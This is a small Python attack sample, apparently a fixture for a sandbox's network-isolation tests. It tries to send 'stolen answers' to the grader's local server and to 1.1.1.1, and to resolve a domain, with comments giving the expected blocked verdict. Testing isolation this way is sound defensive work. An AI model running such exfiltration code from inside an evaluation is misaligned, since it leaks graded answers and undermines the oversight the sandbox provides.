# ATTACK: connects to a server on the grader's 127.0.0.1 (the test starts one and writes its
# port below) to send it data, and tries the outside world (1.1.1.1:53, a DNS lookup).
# VERDICT: load_error "attack finished"; the server receives no connection; no "CONNECTED".
import socket

PORT = 0  # replaced by tests/test_attacks.py with the port of its server

for host, port in (("127.0.0.1", PORT), ("localhost", PORT), ("1.1.1.1", 53)):
    try:
        with socket.create_connection((host, port), timeout=1.0) as s:
            s.sendall(b"stolen answers")
            print(f"CONNECTED to {host}:{port}")
    except OSError as e:
        print(f"no connection to {host}:{port}: {e}")
try:
    print("CONNECTED dns:", socket.gethostbyname("example.com"))
except OSError as e:
    print("no dns:", e)
raise RuntimeError("attack finished")
